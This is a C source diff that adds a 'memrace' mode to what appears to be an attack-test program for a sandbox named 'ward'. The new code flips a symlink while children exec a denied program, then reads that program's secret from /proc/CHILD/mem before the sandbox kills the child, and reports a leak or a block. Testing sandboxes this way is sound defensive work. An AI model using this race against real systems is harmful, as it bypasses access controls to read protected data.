@@ -32,6 +32,15 @@
  *               `ld.so /abs/d/prog public/x`: d/prog is a copy of true, e/prog
  *               of cat (the driver denies exec of e/); the path had no
  *               symlink when ward judged it, ld.so opens it later
+ *   memrace     the program secret/prog (made by the driver: it holds the
+ *               secret; read and exec denied) is reached through a symlink
+ *               flipped between it and bin/okprog while children exec it:
+ *               when the kernel has mapped secret/prog, ward kills the child
+ *               at its exec event, but meanwhile this process reads the
+ *               mapping through /proc/CHILD/mem
+ *
+ * `attack_exec_race mkprog FILE TEXT` (outside ward) writes a program
+ * holding TEXT.
  */
 #include "attack.h"
 
@@ -60,6 +69,38 @@ static void *flipper(void *arg)
 static const char *mode;
 static char dprog[4200]; /* dirswap: /abs/d/prog */
 
+/* memrace: in the parent, watch child c's maps for secret/prog and read that mapping. */
+static int read_child_secret(pid_t c, char *out, size_t len)
+{
+	char path[64], maps[16384];
+	snprintf(path, sizeof(path), "/proc/%d/maps", c);
+	for (int tries = 0; tries < 2000; tries++) {
+		ssize_t n = slurp(path, maps, sizeof(maps));
+		if (n <= 0)
+			return -1; /* gone */
+		char *line = strstr(maps, "secret/prog");
+		if (line == NULL)
+			continue;
+		while (line > maps && line[-1] != '\n')
+			line--;
+		unsigned long start = strtoul(line, NULL, 16);
+		snprintf(path, sizeof(path), "/proc/%d/mem", c);
+		int fd = open(path, O_RDONLY | O_CLOEXEC);
+		if (fd < 0)
+			return -errno;
+		ssize_t got = pread(fd, out, len - 1, (off_t)start);
+		close(fd);
+		if (got <= 0)
+			return -1;
+		for (ssize_t i = 0; i < got; i++)
+			if (out[i] == '\0')
+				out[i] = ' ';
+		out[got] = '\0';
+		return 1;
+	}
+	return 0;
+}
+
 /* In a child: flip (path, argv modes) and exec until an exec happens. */
 static void child_exec(void *arg)
 {
@@ -81,6 +122,8 @@ static void child_exec(void *arg)
 			execve("bin/imain", (char *[]){ "imain", NULL }, environ);
 		else if (strcmp(mode, "dirswap") == 0)
 			execve(LDSO, (char *[]){ LDSO, dprog, PUBLIC, NULL }, environ);
+		else if (strcmp(mode, "memrace") == 0)
+			execve("bin/lnk", (char *[]){ "lnk", NULL }, environ);
 		else
 			execve(LDSO, (char *[]){ LDSO, "bin/lnk", PUBLIC, NULL }, environ);
 	}
@@ -160,15 +203,80 @@ static void *swapper(void *arg)
 	return NULL;
 }
 
+/*
+ * memrace: children exec bin/lnk, flipped between bin/okprog and
+ * ../secret/prog; for each, this process reads what the child mapped of
+ * secret/prog through /proc/CHILD/mem before ward's kill lands.
+ */
+static int mem_race(void)
+{
+	pthread_t sw;
+	unsigned long tries = 0, refused = 0, seen = 0;
+	static char got[8192];
+
+	tiny_file("bin/okprog", 0x20000000, NULL, "OK-RAN\n");
+	if (symlink("okprog", "bin/lnk") < 0)
+		setup_failed("symlink bin/lnk");
+	lnk = "bin/lnk", lnk_ok = "okprog", lnk_bad = "../secret/prog";
+	if (pthread_create(&sw, NULL, swapper, NULL) != 0)
+		setup_failed("pthread_create");
+	double end = now() + race_seconds();
+	while (now() < end && !att_through) {
+		int p[2];
+		if (pipe2(p, O_CLOEXEC) < 0)
+			setup_failed("pipe2");
+		pid_t c = fork();
+		if (c < 0)
+			setup_failed("fork");
+		if (c == 0) {
+			char go;
+			close(p[1]);
+			if (read(p[0], &go, 1) != 1) /* the parent is watching: go */
+				_exit(90);
+			dup2(open("/dev/null", O_WRONLY), 1);
+			execve("bin/lnk", (char *[]){ "lnk", NULL }, (char *[]){ NULL });
+			_exit(91);
+		}
+		close(p[0]);
+		if (write(p[1], "g", 1) != 1)
+			setup_failed("write");
+		close(p[1]);
+		int rc = read_child_secret(c, got, sizeof(got));
+		tries++;
+		if (rc == -EACCES || rc == -EPERM)
+			refused++;
+		if (rc == 1 || rc == -EACCES || rc == -EPERM)
+			seen++; /* secret/prog was mapped when looked at */
+		if (rc == 1 && strstr(got, SECRET_PREFIX) != NULL) {
+			att_through = 1;
+			say("LEAK: memrace: the denied program's mapping read from /proc/CHILD/mem "
+			    "(after %lu tries): %.200s", tries, strstr(got, SECRET_PREFIX));
+		}
+		while (waitpid(c, NULL, 0) < 0 && errno == EINTR)
+			;
+	}
+	stop = 1;
+	pthread_join(sw, NULL);
+	say("note: %lu children, %lu had secret/prog mapped when looked at, %lu mem opens refused",
+	    tries, seen, refused);
+	if (!att_through)
+		say("blocked: memrace: secret/prog's mapping was never read");
+	return finish();
+}
+
 int main(int argc, char **argv)
 {
 	unsigned long tries = 0, ok = 0, killed = 0, failed = 0, other = 0;
 	pthread_t sw;
 
 	mode = argc > 1 ? argv[1] : "path";
+	if (strcmp(mode, "mkprog") == 0 && argc == 4) {
+		tiny_file(argv[2], 0x20000000, NULL, argv[3]);
+		return 0;
+	}
 	if (strcmp(mode, "path") != 0 && strcmp(mode, "argv") != 0 && strcmp(mode, "loaderlink") != 0 &&
 	    strcmp(mode, "rewrite") != 0 && strcmp(mode, "interplink") != 0 &&
-	    strcmp(mode, "dirswap") != 0) {
+	    strcmp(mode, "dirswap") != 0 && strcmp(mode, "memrace") != 0) {
 		errno = EINVAL;
 		setup_failed(mode);
 	}
@@ -217,6 +325,8 @@ int main(int argc, char **argv)
 		if (pthread_create(&sw, NULL, dirswapper, NULL) != 0)
 			setup_failed("pthread_create");
 	}
+	if (strcmp(mode, "memrace") == 0)
+		return mem_race();
 	if (strcmp(mode, "rewrite") == 0) {
 		true_bytes = slurp_all("/usr/bin/true", &true_len);
 		ld_bytes = slurp_all(LDSO, &ld_len);
